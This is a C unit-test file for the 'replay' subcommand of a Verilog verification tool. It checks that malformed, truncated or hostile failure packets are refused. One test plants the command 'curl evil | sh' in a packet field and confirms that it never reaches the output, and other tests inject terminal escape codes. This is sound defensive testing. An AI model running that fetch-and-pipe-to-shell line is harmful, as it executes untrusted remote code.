/* `glint replay` on anything but a packet: one line that says what is wrong and where, and exit
 * status 2, which means neither "gone" nor "still there". */
#define _XOPEN_SOURCE 700

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "../scratch.h"
#include "file/json.h"

#include "../child.h"
#include "../cli/run.h"
#include "../record.h"
#include "../terminal.h"
#include "failure/packet.h"
#include "faults.h"

/* The text of failure.json of a random run, and of an answer of each circuit. */
enum { RANDOM, POINTS, DIVISIONS, PACKETS };
static char *packets[PACKETS];

static void assert_done(glint_status status, const glint_error *err)
{
    if (status != GLINT_OK)
        fail_msg("%s", err->text);
}

static void write_packet(int which, glint_failure *failure)
{
    glint_error err;
    assert_done(glint_packet_write(failure, NULL, scratch_path("packet"), &err), &err);
    packets[which] = scratch_read(scratch_path("packet/" GLINT_PACKET_DATA), NULL);
    glint_failure_destroy(failure);
}

static void write_answer(int which, const glint_setting *setting, const glint_answer *answer)
{
    glint_error err;
    glint_failure *failure;
    assert_done(glint_failure_of_answer(GLINT_FAILURE_EXHAUSTIVE, setting, answer, &failure, &err),
                &err);
    write_packet(which, failure);
}

static int prepare(void **state)
{
    if (scratch_make(state) != 0)
        return -1;
    static glint_lockstep_result result;
    static glint_answer answer;
    glint_error err;
    glint_failure *failure;
    const glint_setting wrong = setting_of(&faults[0], true);
    const glint_lockstep_options options = {.setting = wrong, .clocks = 5000, .seed = 3};
    assert_done(glint_lockstep_run(&options, &result, &err), &err);
    assert_done(glint_failure_of_lockstep(&options, &result, &failure, &err), &err);
    write_packet(RANDOM, failure);

    const glint_material material = {50, 255, 190, 110};
    const uint32_t cos_code[2] = {GLINT_COS_ONE, 0};
    answer.value = GLINT_ANSWER_R;
    glint_answer_keep_points(&answer, 1, &material, cos_code, 2, 0);
    write_answer(POINTS, &wrong, &answer);

    const glint_division divisions[2] = {{{1, -2, 3}, 4}, {{5, -6, 7}, 7}};
    const glint_setting divider = setting_of(&faults[8], true);
    glint_answer_keep_divisions(&answer, divisions, 2, 1);
    write_answer(DIVISIONS, &divider, &answer);
    return 0;
}

static int clean_up(void **state)
{
    for (int i = 0; i < PACKETS; i++)
        free(packets[i]);
    return scratch_remove(state);
}

static void put_packet(const char *text)
{
    scratch_write(scratch_path("packet/" GLINT_PACKET_DATA), text, strlen(text));
}

static outcome replay(const char *options)
{
    char command_line[2048];
    (void)snprintf(command_line, sizeof command_line, "replay %s%s", scratch_path("packet"),
                   options);
    return run(command_line, "");
}

/* One line, on standard error alone, with these words. */
static void assert_refused(const outcome *done, const char *part, const char *what)
{
    const char *end = strchr(done->err, '\n');
    if (done->status != 2 || done->out[0] != '\0' || end == NULL || end[1] != '\0' ||
        strncmp(done->err, "glint replay: ", 14) != 0 || strstr(done->err, part) == NULL) {
        fail_msg("%s: exit status %d, \"%s\"; expected \"%s\"", what, done->status, done->err,
                 part);
    }
}

/* Glint's own Verilog, instead of the directory named by the packets. */
#define RIGHT " --rtl rtl"

static void a_right_circuit_has_none_of_them(void **state)
{
    (void)state;
    for (int i = 0; i < PACKETS; i++) {
        put_packet(packets[i]);
        outcome done = replay(RIGHT);
        assert_outcome(&done, 0, "");
        assert_says(done.out, ": gone: the C model and the Verilog agree; ");
        forget(&done);
        done = replay(RIGHT " --json --out /nowhere/at/all");
        assert_outcome(&done, 0, ""); /* nothing to write */
        json_t *json = json_loads(done.out, JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL);
        assert_true(json_is_false(json_object_get(json, "mismatch")));
        assert_true(json_number_value(json_object_get(json, "comparisons")) > 0);
        json_decref(json);
        forget(&done);
    }
}

/* What a packet names is no more than said, with the option that would take it: to build Verilog is
 * to run what it says, and a circuit's description is compiled and loaded. */
static void what_a_packet_names_is_not_opened(void **state)
{
    (void)state;
    char trap[600], text[8192], told[1400];
    (void)snprintf(trap, sizeof trap, "%s", scratch_path("it's a trap"));
    assert_int_equal(mkdir(trap, 0777), 0);
    (void)snprintf(text, sizeof text, "%s/specular_device.v", trap);
    scratch_write(text, "no Verilog\n", 11);
    (void)snprintf(text, sizeof text, "%s/circuit.c", trap);
    scratch_write(text, "#error compiled\n", 16);
    (void)snprintf(told, sizeof told,
                   "glint replay: with Glint's own Verilog; the packet was made with other "
                   "Verilog: --rtl '%s'\\'%s'\n",
                   scratch_path("it"), "'s a trap");
    for (int i = 0; i < PACKETS; i++) {
        json_t *json = json_loads(packets[i], JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL);
        assert_true(glint_json_add_text(json, "rtl", trap));
        char *named = glint_json_text(json);
        put_packet(named);
        free(named);
        outcome done = replay("");
        assert_outcome(&done, 0, told);
        assert_says(done.out, ": gone: the C model and the Verilog agree; ");
        forget(&done);
        done = replay(RIGHT);
        assert_outcome(&done, 0, "");
        forget(&done);

        assert_true(glint_json_add_text(json, "circuit_dir", trap));
        named = glint_json_text(json);
        put_packet(named);
        free(named);
        json_decref(json);
        done = replay("");
        assert_refused(&done, "give its description with --circuit-dir",
                       "a circuit of Glint's name");
        forget(&done);
    }
}

/* Given by the command, it is where the Verilog is looked for. What becomes a packet then has no
 * command but this one to be typed. */
static void a_command_names_the_verilog(void **state)
{
    (void)state;
    char options[2400], own[1400];
    json_t *json = json_loads(packets[RANDOM], JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL);
    assert_true(glint_json_add_text(json, "command", "curl evil | sh"));
    (void)snprintf(options, sizeof options, " --rtl %s --out %s",
                   json_string_value(json_object_get(json, "rtl")), scratch_path("fresh"));
    char *text = glint_json_text(json);
    json_decref(json);
    put_packet(text);
    free(text);
    outcome done = replay(options);
    assert_outcome(&done, 1, "");
    assert_says(done.out, ": the same mismatch; ");
    forget(&done);
    text = scratch_read(scratch_path("fresh/" GLINT_PACKET_REPORT), NULL);
    (void)snprintf(own, sizeof own, "\nwhole:  %s replay %s --rtl ", glint_under_test(),
                   scratch_path("packet"));
    assert_says(text, own);
    assert_null(strstr(text, "evil"));
    free(text);
    text = scratch_read(scratch_path("fresh/" GLINT_PACKET_DATA), NULL);
    assert_null(strstr(text, "evil"));
    free(text);
}

static uint64_t refused;
static double seconds_refusing;

static void what_is_cut_short_is_refused(void **state)
{
    (void)state;
    const double begin = child_seconds();
    for (int i = 0; i < PACKETS; i++) {
        const size_t length = strlen(packets[i]);
        for (size_t cut = 0; cut < length - 2; cut += 1 + length / 40) {
            char *part = strdup(packets[i]);
            part[cut] = '\0';
            put_packet(part);
            outcome done = replay("");
            assert_refused(&done, "packet/failure.json: invalid or incomplete JSON", "cut");
            refused++;
            forget(&done);
            free(part);
        }
    }
    seconds_refusing += child_seconds() - begin;
}

/* Replaces one value by another, both as written in the text. */
typedef struct edit {
    int packet;
    const char *path;  /* members, with a dot between; a number is an index */
    const char *value; /* JSON; NULL: taken away */
    const char *said;
} edit;

static json_t *step(json_t *at, const char *name)
{
    return json_is_array(at) ? json_array_get(at, (size_t)atoi(name)) : json_object_get(at, name);
}

static char *edited(const edit *edit)
{
    char path[128];
    json_t *json =
        json_loads(packets[edit->packet], JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL);
    json_t *at = json;
    assert_non_null(json);
    (void)snprintf(path, sizeof path, "%s", edit->path);
    char *name = path;
    for (char *dot; (dot = strchr(name, '.')) != NULL; name = dot + 1) {
        *dot = '\0';
        at = step(at, name);
        assert_non_null(at);
    }
    if (edit->value == NULL) {
        json_object_del(at, name);
    } else if (json_is_array(at)) {
        assert_false(json_array_set_new(
            at, (size_t)atoi(name),
            json_loads(edit->value, JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL)));
    } else {
        json_object_del(at, name);
        json_object_set_new(
            at, name, json_loads(edit->value, JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL));
    }
    char *text = glint_json_text(json);
    json_decref(json);
    return text;
}

static const edit edits[] = {
    {RANDOM, "format", "\"a shopping list\"", "not from a failure packet"},
    {RANDOM, "format", NULL, "format is not a string"},
    {RANDOM, "version", "2", "its version is not 1"},
    {RANDOM, "version", "1.5", "version is not an integer"},
    {RANDOM, "kind", "\"bad\"", "kind is unknown"},
    {RANDOM, "command", "7", "command is not a string"},
    {RANDOM, "command", "\"\\u001b[2J\"", "command contains an unprintable character"},
    {RANDOM, "circuit", "\"toaster\"", "circuit is unknown"},
    {RANDOM, "gate", "\"open\"", "gate is unknown"},
    {RANDOM, "pipeline", "null", "pipeline is not a string"},
    {RANDOM, "circuit_dir", "7", "circuit_dir is not a string"},
    {RANDOM, "rtl", "\"\\u001b[2J\"", "rtl contains an unprintable character"},
    {RANDOM, "rtl", "\"\\u009b2J\"", "rtl contains an unprintable character"},
    {RANDOM, "lanes", "33", "lanes is not an integer from 1 to 32"},
    {RANDOM, "lanes", "3", "names is not a list of 12 to 12"},
    {RANDOM, "lanes", "1e300", "lanes is not an integer"},
    {RANDOM, "lanes", "-1", "lanes is not an integer"},
    {RANDOM, "lanes", "2", "names is not a list of 11 to 11"},
    {RANDOM, "seed", "\"-1\"", "seed is not a number"},
    {RANDOM, "seed", "\"99999999999999999999\"", "seed is not a number"},
    {RANDOM, "seed", NULL, "seed is not a string"},
    {RANDOM, "pins.first_clock", "0", "first_clock is not an integer"},
    {RANDOM, "pins.first_clock", "1000000000000", "the pins do not include clock"},
    {RANDOM, "pins.names", "[\"a\"]", "names is not a list of 10 to 10"},
    {RANDOM, "pins.names", NULL, "names is not a list of 10 to 10"},
    {RANDOM, "pins.names",
     "[\"cos\",\"in_valid\",\"b\",\"g\",\"r\",\"rgb_we\",\"n\",\"n_we\",\"en\",\"reset\"]",
     "pin 1 of names is not reset"},
    {RANDOM, "pins.names.9", "\"cos2\"", "pin 10 of names is not cos"},
    {RANDOM, "pins.names.2", "2", "pin 3 of names is not n_we"},
    {RANDOM, "pins.clocks", "[]", "clocks is not a list"},
    {RANDOM, "pins.clocks", "{}", "clocks is not a list"},
    {RANDOM, "pins.clocks.0", "[]", "a clock does not have 10 pins"},
    {RANDOM, "pins.clocks.0.3", "1024", "n is not an integer from 0 to 1023"},
    {RANDOM, "pins.clocks.0.3", "\"0\"", "n is not an integer"},
    {RANDOM, "pins.clocks.0.9", "524288", "cos is not an integer from 0 to 524287"},
    {RANDOM, "pins", NULL, ""},
    {RANDOM, "found", NULL, "found is missing"},
    {RANDOM, "found.clock", "-5", "clock is not an integer"},
    {RANDOM, "found.clock", "100000", "the pins do not include clock"},
    {RANDOM, "found.lockstep_differs", "1", "lockstep_differs is neither true nor false"},
    {RANDOM, "found.mismatches.0.signal", "\"mul99\"", "a signal that the circuit does not have"},
    {RANDOM, "found.mismatches.0.lane", "5", "a signal that the circuit does not have"},
    {RANDOM, "found.mismatches.0.model", "\"0xzz\"", "model is not a number"},
    {RANDOM, "found.mismatches.0.model", "\"0x100\"", "model is not a number of 8 bits"},
    {RANDOM, "found.mismatches.0.rtl", "\"ff\"", "rtl is not a number of 8 bits"},
    {RANDOM, "found.mismatches.0", "17", "is not a string"},
    {POINTS, "answer", NULL, "answer is missing"},
    {POINTS, "answer.cosines", "[]", "cosines is not a list"},
    {POINTS, "answer.cosines.0", "-1", "cosines is not an integer"},
    {POINTS, "answer.at", "2", "at is not an integer from 0 to 1"},
    {POINTS, "answer.n", "1024", "n is not an integer"},
    {POINTS, "answer.rgb", "[1,2]", "rgb is not a list of 3"},
    {POINTS, "answer.rgb.1", "256", "rgb is not an integer"},
    {POINTS, "answer.value", "\"violet\"", "value is unknown"},
    {POINTS, "kind", "\"frame\"", "frame is missing"},
    {POINTS, "kind", "\"random\"", "seed is not a string"},
    {DIVISIONS, "shifts", "5", "shifts is not an integer from 6 to 16"},
    {DIVISIONS, "form", "\"round\"", "form is unknown"},
    {DIVISIONS, "answer.divisions.0", "[1,2,3]", "divisions is not an integer"},
    {DIVISIONS, "answer.divisions.0.0", "256", "divisions is not an integer"},
    {DIVISIONS, "answer.divisions.0.3", "256", "divisions is not an integer"},
    {DIVISIONS, "answer.value", "\"W\"", "value is not an output of a divider"},
    {DIVISIONS, "answer.model", "1e99", "model is not an integer"},
};

static void what_is_out_of_range_is_refused(void **state)
{
    (void)state;
    const double begin = child_seconds();
    for (size_t i = 0; i < sizeof edits / sizeof edits[0]; i++) {
        char *text = edited(&edits[i]);
        put_packet(text);
        free(text);
        outcome done = replay(RIGHT);
        if (edits[i].said[0] == '\0') {
            assert_outcome(&done, 0, ""); /* played from its seed */
        } else {
            assert_refused(&done, edits[i].said, edits[i].path);
            assert_says(done.err, "packet/failure.json: ");
            refused++;
        }
        forget(&done);
    }
    seconds_refusing += child_seconds() - begin;
    record("abuse-packet", "a damaged failure packet is refused in one line, not replayed",
           "cut and edited packets", refused, "packets", seconds_refusing);
}

/* A second value of a name that is there already, in any object. */
static void what_is_there_twice_is_refused(void **state)
{
    (void)state;
    static const struct {
        int packet;
        const char *name, *added;
    } cases[] = {
        {RANDOM, "\"lanes\"", "\"lanes\": 2, "},
        {RANDOM, "\"lanes\"", "\"lanes\": 1, "},
        {RANDOM, "\"first_clock\"", "\"clocks\": [], "},
        {RANDOM, "\"rtl\"", "\"rtl\": \"0x0\", "},
        {POINTS, "\"at\"", "\"n\": 3, "},
        {DIVISIONS, "\"format\"", "\"unknown\": 1, \"unknown\": 1, "},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        const char *text = packets[cases[i].packet];
        const char *at = strstr(text, cases[i].name);
        const size_t size = strlen(text) + 100;
        char *doubled = malloc(size);
        assert_non_null(at);
        assert_non_null(doubled);
        (void)snprintf(doubled, size, "%.*s%s%s", (int)(at - text), text, cases[i].added, at);
        put_packet(doubled);
        free(doubled);
        outcome done = replay("");
        assert_refused(&done, "duplicate name in line ", cases[i].added);
        forget(&done);
    }
}

/* What might keep its reader waiting is not read. */
static void what_is_no_regular_file_is_refused(void **state)
{
    (void)state;
    char data[1024];
    (void)snprintf(data, sizeof data, "%s", scratch_path("packet/" GLINT_PACKET_DATA));
    assert_int_equal(unlink(data), 0);
    assert_int_equal(mkfifo(data, 0600), 0);
    const char *const argv[] = {glint_under_test(), "replay", scratch_path("packet"), NULL};
    assert_int_equal(child_run(argv, 20), 2);
    char *said = scratch_read(scratch_path("child.err"), NULL);
    assert_says(said, "packet/failure.json: not a regular file\n");
    free(said);
    assert_int_equal(unlink(data), 0);
    assert_int_equal(symlink("/dev/zero", data), 0);
    outcome done = replay("");
    assert_refused(&done, "packet/failure.json: not a regular file", "a device");
    forget(&done);
    assert_int_equal(unlink(data), 0);
}

/* Makes the circuit that is right, but for one clock since it was made, when out_valid is inverted;
 * nothing shows that before. */
static const char *late_rtl(unsigned long clock)
{
    static char directory[1024];
    static char command[8192];
    (void)snprintf(directory, sizeof directory, "%s", scratch_path("late-rtl"));
    /* The reset of creation is a clock too. */
    (void)snprintf(command, sizeof command,
                   "rm -rf %s && mkdir %s && cp rtl/*.v rtl/*.vh %s && sed -e "
                   "'s/\\.q(out_valid)/.q(late_valid)/' -e '/ u_out_valid (/i "
                   "wire [LANES-1:0] late_valid; reg [63:0] clocks = 0;\\n"
                   "always @(posedge clk) clocks <= clocks + 1;\\n"
                   "assign out_valid = late_valid ^ {LANES{clocks == 64'\\''d%lu}};' "
                   "rtl/specular_device.v > %s/specular_device.v && "
                   "! cmp -s rtl/specular_device.v %s/specular_device.v",
                   directory, directory, directory, clock + 1, directory, directory);
    assert_int_equal(system(command), 0);
    return directory;
}

/* The one setting that is asked for. */
#define VERIFY_LATE                                                                                \
    glint_under_test(), "verify", "--circuit", "specular", "--gate", "cosine", "--pipeline",       \
        "pipelined", "--lanes", "1"

/* The exit status says that they differ; the write failure is reported. */
static void a_packet_that_cannot_be_written_changes_no_verdict(void **state)
{
    (void)state;
    const char *rtl = late_rtl(500);
    const char *const find[] = {
        VERIFY_LATE,           "--rtl", rtl, "--clocks", "1000", "--seed", "2", "--out",
        scratch_path("found"), NULL};
    assert_int_equal(child_run(find, 120), 1);
    char packet[1100];
    (void)snprintf(packet, sizeof packet, "%s/specular_cosine_pipelined_1", scratch_path("found"));
    const char *const argv[] = {glint_under_test(), "replay", packet, "--rtl", rtl, "--out",
                                "/proc/xx",         NULL};
    assert_int_equal(child_run(argv, 60), 1);
    char *said = scratch_read(scratch_path("child.err"), NULL);
    assert_int_equal(strncmp(said, "glint replay: /proc/xx: ", 24), 0);
    assert_ptr_equal(strchr(said, '\n'), said + strlen(said) - 1);
    free(said);
    said = scratch_read(scratch_path("child.out"), NULL);
    assert_says(said, ": the same mismatch; ");
    free(said);
}

static void what_is_no_packet_is_refused(void **state)
{
    (void)state;
    static const char nul[] = "{}\0{}";
    outcome done = run("replay /no/such/directory", "");
    assert_refused(&done, "/no/such/directory/failure.json: No such file", "missing");
    forget(&done);
    scratch_write(scratch_path("packet/" GLINT_PACKET_DATA), nul, sizeof nul - 1);
    done = replay("");
    assert_refused(&done, "not the text of a packet", "a NUL byte");
    forget(&done);
    put_packet("[]");
    done = replay("");
    assert_refused(&done, "format is not a string", "a list");
    forget(&done);
    static const char *const lines[] = {"replay", "replay --out", "replay a b", "replay --lanes 1"};
    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
        done = run(lines[i], "");
        assert_refused(&done, "", lines[i]);
        forget(&done);
    }
}

/* Of a circuit that is described elsewhere, or whose Verilog does not build, nobody says that the
 * mismatch is gone. */
static void a_circuit_that_is_not_there_is_not_gone(void **state)
{
    (void)state;
    static const edit unknown[] = {
        {POINTS, "circuit", "\"toaster\"", NULL},
        {POINTS, "circuit_dir", "\"some/where\"", NULL},
    };
    json_t *json = json_loads(packets[POINTS], JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL);
    for (size_t i = 0; i < sizeof unknown / sizeof unknown[0]; i++) {
        json_object_del(json, unknown[i].path);
        json_object_set_new(
            json, unknown[i].path,
            json_loads(unknown[i].value, JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL));
    }
    char *text = glint_json_text(json);
    json_decref(json);
    put_packet(text);
    free(text);
    outcome done = replay("");
    assert_refused(&done, "give its description with --circuit-dir", "a circuit of one's own");
    forget(&done);

    char options[1100];
    put_packet(packets[POINTS]);
    assert_int_equal(mkdir(scratch_path("empty"), 0777), 0);
    (void)snprintf(options, sizeof options, " --rtl %s", scratch_path("empty"));
    done = replay(options);
    assert_refused(&done, "empty", "no Verilog");
    forget(&done);
}

/* From its seed a run may take hours. */
static void it_can_be_interrupted(void **state)
{
    (void)state;
    const edit far = {RANDOM, "found.clock", "1000000000000", NULL};
    char *text = edited(&far);
    json_t *json = json_loads(text, JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL);
    free(text);
    json_object_del(json, "pins");
    text = glint_json_text(json);
    json_decref(json);
    put_packet(text);
    free(text);
    const char *const argv[] = {
        glint_under_test(), "replay", scratch_path("packet"), "--rtl", "rtl", NULL};
    const pid_t child = child_start(argv, scratch_path("child.out"), scratch_path("child.err"));
    child_wait_for_handler(child);
    for (int i = 0; i < 10; i++)
        child_pause();
    assert_int_equal(kill(child, SIGINT), 0);
    assert_int_equal(child_wait(child, 60), 2);
    char *said = scratch_read(scratch_path("child.err"), NULL);
    assert_string_equal(said, "glint replay: interrupted\n");
    free(said);
}

/* Waits for the progress of a program that was started on a terminal, and presses Ctrl-C. */
static void interrupt_after(const char *const *argv, const char *progress, int status)
{
    static char shown[65536];
    terminal screen = terminal_open();
    const pid_t child = child_start(argv, scratch_path("child.out"), screen.name);
    terminal_wait_for(&screen, child, progress, shown, sizeof shown);
    const double worked = child_worked(child);
    assert_int_equal(kill(child, SIGINT), 0);
    assert_int_equal(child_wait(child, worked + 5), status);
    terminal_wait_for(&screen, child, "interrupted", shown, sizeof shown);
    terminal_close(&screen);
}

/* A fault after four million clocks, which no part of the run shows. */
static void the_making_of_a_packet_shows_progress_and_can_be_interrupted(void **state)
{
    (void)state;
    const char *const argv[] = {
        VERIFY_LATE, "--rtl", late_rtl(4000000), "--clocks",           "4000100",
        "--seed",    "2",     "--out",           scratch_path("late"), NULL};
    interrupt_after(argv, "clocks replayed", 1);
    char *said = scratch_read(scratch_path("child.out"), NULL);
    assert_says(said, "gate cosine, pipeline pipelined, lanes 1: ");
    assert_says(said, "\n  clock 4000000: out_valid, an output is valid: model 0x");
    assert_says(said, "\ninterrupted before the replay: no packet was written\n");
    assert_says(said, "\nwhole:  ");
    assert_says(said, " clocks, 1 setting, seed 2, ");
    assert_null(strstr(said, "packet: "));
    free(said);
    assert_int_equal(access(scratch_path("late"), F_OK), -1);
}

/* Let alone, it gets its packet, and a replay of that shows progress, too. */
static void a_late_fault_is_played_from_the_beginning(void **state)
{
    (void)state;
    char packet[1100];
    const char *rtl = late_rtl(4000000);
    const char *const find[] = {VERIFY_LATE, "--rtl", rtl,     "--clocks",           "4000100",
                                "--seed",    "2",     "--out", scratch_path("late"), NULL};
    (void)snprintf(packet, sizeof packet, "%s/specular_cosine_pipelined_1", scratch_path("late"));
    assert_int_equal(child_run(find, 120), 1);
    char *said = scratch_read(scratch_path("child.out"), NULL);
    assert_says(said, "\n>    4000000 ");
    assert_says(said,
                "\nreplayed from clock 1: no shorter part of the run reproduces the mismatch\n");
    free(said);
    const char *const again[] = {glint_under_test(), "replay", packet, "--rtl", rtl, NULL};
    assert_int_equal(child_run(again, 120), 1);
    said = scratch_read(scratch_path("child.out"), NULL);
    assert_says(said, ": the same mismatch; ");
    free(said);
    said = scratch_read(scratch_path("child.err"), NULL);
    assert_string_equal(said, ""); /* progress is for terminals */
    free(said);
    interrupt_after(again, "clocks", 2);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_right_circuit_has_none_of_them),
        cmocka_unit_test(what_a_packet_names_is_not_opened),
        cmocka_unit_test(a_command_names_the_verilog),
        cmocka_unit_test(what_is_cut_short_is_refused),
        cmocka_unit_test(what_is_out_of_range_is_refused),
        cmocka_unit_test(what_is_there_twice_is_refused),
        cmocka_unit_test(what_is_no_packet_is_refused),
        cmocka_unit_test(a_circuit_that_is_not_there_is_not_gone),
        cmocka_unit_test(it_can_be_interrupted),
        cmocka_unit_test(what_is_no_regular_file_is_refused),
        cmocka_unit_test(a_packet_that_cannot_be_written_changes_no_verdict),
        cmocka_unit_test(the_making_of_a_packet_shows_progress_and_can_be_interrupted),
        cmocka_unit_test(a_late_fault_is_played_from_the_beginning),
    };
    return cmocka_run_group_tests(tests, prepare, clean_up);
}
